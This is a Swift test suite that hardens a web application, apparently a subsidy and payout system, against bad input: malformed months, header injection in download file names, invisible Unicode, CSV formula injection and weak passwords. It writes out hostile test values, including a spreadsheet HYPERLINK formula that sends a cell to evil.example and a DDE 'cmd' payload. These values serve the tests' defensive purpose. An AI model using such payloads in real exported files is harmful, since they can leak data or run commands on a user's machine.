import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import KuajingApp
import KuajingDomain
import KuajingTestSupport
@testable import KuajingWeb
import NIOCore
import Testing
import Monitoring
import HummingbirdBcrypt
import Storage

/// Issue 19: no input takes the server down, a file the platform writes opens safely, passwords as
/// NIST SP 800-63B asks.
@Suite struct HardeningTests {
    /// `GET /report?month=0000-01` stopped the server (year 0 has no `Day`); now every such month is
    /// a 422 naming the field, and the server answers the next request.
    @Test(arguments: ["0000-01", "0001-01", "9999-12", "2025-13", "2025-1", "+025-01", "２０２５-01", "2025-01-01", "-2025-01"])
    func aMonthOutOfRangeIsRefusedAndTheServerStaysUp(month: String) async throws {
        let world = try await WebWorld.get()
        try await world.application().test(.router) { client in
            let analyst = try await Browser.signIn(client, "demo-analyst")
            let query = month.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? month
            try await client.execute(uri: "/report?month=" + query, method: .get, headers: analyst.headers) { response in
                #expect(response.status == .unprocessableContent, "\(month): \(response.status)")
                #expect(String(buffer: response.body).contains("月份"))
            }
            try await client.execute(uri: "/report", method: .get, headers: analyst.headers) { #expect($0.status == .ok) }
        }
    }

    /// The supervisor's health check: 200 without signing in, and nothing of the data.
    @Test func theHealthEndpointAnswersWithoutData() async throws {
        let world = try await WebWorld.get()
        try await world.application().test(.router) { client in
            try await client.execute(uri: "/healthz", method: .get) { response in
                #expect(response.status == .ok)
                #expect(String(buffer: response.body) == "ok\n")
            }
        }
    }

    /// RFC 6266: a quote or a semicolon in a file name never reaches the plain `filename` parameter.
    @Test func aDownloadNameCannotInjectAHeaderParameter() {
        let response = Reply.download([1], name: "a\"; filename=\"evil.exe", type: "application/octet-stream")
        let header = response.headers[.contentDisposition] ?? ""
        #expect(header.hasPrefix("attachment; filename=\"download"), "\(header)")
        #expect(header.components(separatedBy: "filename=").count == 2, "one plain filename: \(header)")
        #expect(header.contains("filename*=UTF-8''a%22%3B%20filename%3D%22evil.exe"), "\(header)")
    }

    /// JSON types as declared by the typed bodies: a number is never a boolean and a boolean never
    /// a number or a string; a number keeps the text it was written with (exact, no `Double`); a
    /// missing or mistyped field is named.
    @Test func jsonNumbersAndBooleansAreToldApart() throws {
        func release(_ json: String) throws(AppError) -> String { try APIBody.decode(ReleaseBody.self, from: Data(json.utf8)).amount.text }
        func confirm(_ json: String) throws(AppError) -> Bool? { try APIBody.decode(ConfirmationBody.self, from: Data(json.utf8)).confirm }
        #expect(try release(#"{"amount":1}"#) == "1")
        #expect(try release(#"{"amount":0}"#) == "0")
        #expect(try release(#"{"amount":"12.50"}"#) == "12.50")
        #expect(try release(#"{"amount":12345678901234567.89}"#) == "12345678901234567.89", "a long number stays exact")
        #expect(throws: AppError.invalidInput(field: "amount", location: "请求正文", message: "应为字符串或数字")) { _ = try release(#"{"amount":true}"#) }
        #expect(throws: AppError.invalidInput(field: "amount", location: "请求正文", message: "缺少必填字段")) { _ = try release(#"{}"#) }
        #expect(throws: AppError.invalidInput(field: nil, location: "请求正文", message: "应为 JSON 对象")) { _ = try release(#"[1]"#) }
        #expect(throws: AppError.invalidInput(field: nil, location: "请求正文", message: "应为 JSON 对象")) { _ = try release(#"{"amount":"#) }
        #expect(throws: AppError.invalidInput(field: nil, location: "请求正文", message: "应为 JSON 对象")) { _ = try release("null") }
        #expect(try confirm(#"{"confirm":false}"#) == false)
        #expect(try confirm(#"{"confirm":true}"#) == true)
        #expect(try confirm(#"{}"#) == nil)
        #expect(throws: AppError.invalidInput(field: "confirm", location: "请求正文", message: "应为 true 或 false")) { _ = try confirm(#"{"confirm":0}"#) }
        #expect(throws: AppError.self) { _ = try confirm(#"{"confirm":"true"}"#) }
        // Any other field of an application is an attribute of its claim, a string or a number.
        let a = try APIBody.decode(ApplicationBody.self, from: Data(#"{"enterprise_id":"E","matter":"m","date":"2025-01-01","amount":300000,"items":3,"attributes":{"market":"EU"},"claim_id":"x"}"#.utf8))
        #expect(a.attributes == ["items": TextValue("3"), "market": TextValue("EU")] && a.evidence.isEmpty && a.amount.text == "300000")
        #expect(throws: AppError.invalidInput(field: "attributes.market", location: "请求正文", message: "应为字符串或数字")) {
            _ = try APIBody.decode(ApplicationBody.self, from: Data(#"{"enterprise_id":"E","matter":"m","date":"2025-01-01","amount":1,"attributes":{"market":[1]}}"#.utf8))
        }
    }

    /// Free text with a control or invisible format character is refused, naming the code point.
    @Test(arguments: [("核减\u{202E}理由", false, false), ("零宽\u{200B}空格", false, false), ("响铃\u{07}", false, false), ("BOM\u{FEFF}", false, false),
                      ("两行\n理由", true, true), ("两行\n理由", false, false), ("普通理由，含标点：（）", false, true)])
    func freeTextRefusesInvisibleCharacters(text: String, lineBreaks: Bool, accepted: Bool) {
        #expect((FreeText.invisible(in: text, lineBreaks: lineBreaks) == nil) == accepted, "\(text.unicodeScalars.map { String($0.value, radix: 16) })")
    }

    @Test func monthsParseOnlyWithinTheirRange() {
        #expect(Month("2025-06") == Month(year: 2025, month: 6))
        for bad in ["0000-01", "1899-12", "2201-01", "2025-00", "2025-6", "2025--6", "20250-01", "٢٠٢٥-01"] { #expect(Month(bad) == nil, "\(bad)") }
    }

    /// OWASP's rule for CSV injection: a cell a spreadsheet would evaluate is shown as text; a plain
    /// number (a reversal's −100.00) stays a number.
    @Test(arguments: [("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此核对\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点此核对\"\")\""),
                      ("@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("\tx", "'\tx"),
                      ("-100.00", "-100.00"), ("-5", "-5"), ("-12.3%", "-12.3%"), ("-1,234.50", "\"-1,234.50\""), ("-1%2", "'-1%2"), ("-%", "'-%"),
                      ("杭州银行", "杭州银行"), ("a=b", "a=b"), ("", "")])
    func spreadsheetCellsAreNeutralised(cell: String, written: String) {
        #expect(CSVText.cell(cell) == written)
    }

    @Test(arguments: [("short-pass1", false), ("            ", false), ("passwordpassword", false), ("123456789012", false), ("aaaaaaaaaaaaaaa", false),
                      ("abcdefghijklmn", false), (String(repeating: "长", count: 129), false),
                      ("correct horse battery", true), ("滨江区商务局2025年审核", true), (String(repeating: "x", count: 11) + "é", true)])
    func passwordsFollowNIST(password: String, accepted: Bool) {
        #expect((PasswordPolicy.problem(password) == nil) == accepted, "\(password.prefix(20)): \(PasswordPolicy.problem(password) ?? "accepted")")
    }

    /// bcrypt reads 72 bytes: two passwords that share them are still two passwords; a hash made
    /// before the pre-hash still opens with its password.
    @Test func longPasswordsDifferPastSeventyTwoBytes() async throws {
        let world = try await WebWorld.get()
        let accounts = Accounts(world.context)
        let base = String(repeating: "B", count: 72)
        try await accounts.addUser(.init(name: "long-pass", role: .analyst, password: base + "RealSuffix1"))
        _ = try await accounts.signIn(name: "long-pass", password: base + "RealSuffix1", address: "127.0.0.9")
        await #expect(throws: AppError.self) { _ = try await accounts.signIn(name: "long-pass", password: base + "WrongSuffix", address: "127.0.0.9") }
        await #expect(throws: AppError.self, "a password that could not be set is refused at creation") {
            try await accounts.addUser(.init(name: "too-long", role: .analyst, password: String(repeating: "p", count: 300)))
        }
        // A user whose hash was made by plain bcrypt (before the pre-hash) still signs in.
        let legacy = Bcrypt.hash("legacy-password-1", cost: 4)
        try await world.context.withStore { store in
            try await store.accounts.upsert(UserRow(name: "legacy-user", displayName: "旧用户", role: "analyst", city: "杭州市", district: nil, enterpriseID: nil,
                                                    passwordHash: legacy, createdAt: "2025-01-01T00:00:00+08:00"), by: "测试", at: "2025-01-01T00:00:00+08:00")
        }
        _ = try await accounts.signIn(name: "legacy-user", password: "legacy-password-1", address: "127.0.0.9")
    }

    /// The payee's free text goes into the treasury file: control characters are refused, and what
    /// begins like a formula is written as text.
    @Test func payeeTextCannotCarryControlsOrFormulas() async throws {
        let world = try await WebWorld.get()
        let desk = PayoutDesk(world.context)
        let enterprise = try await world.enterpriseOutsideBinjiang()
        let me = Viewer(name: "e", displayName: "e", role: .enterprise, city: "杭州市", district: "萧山区", enterpriseID: enterprise)
        await #expect(throws: AppError.self) {
            _ = try await desk.enterPayee(me, .init(enterpriseID: enterprise, bank: "杭州银行\u{202E}", accountNo: "330104001234", holder: "企业", evidence: "x"))
        }
    }
}
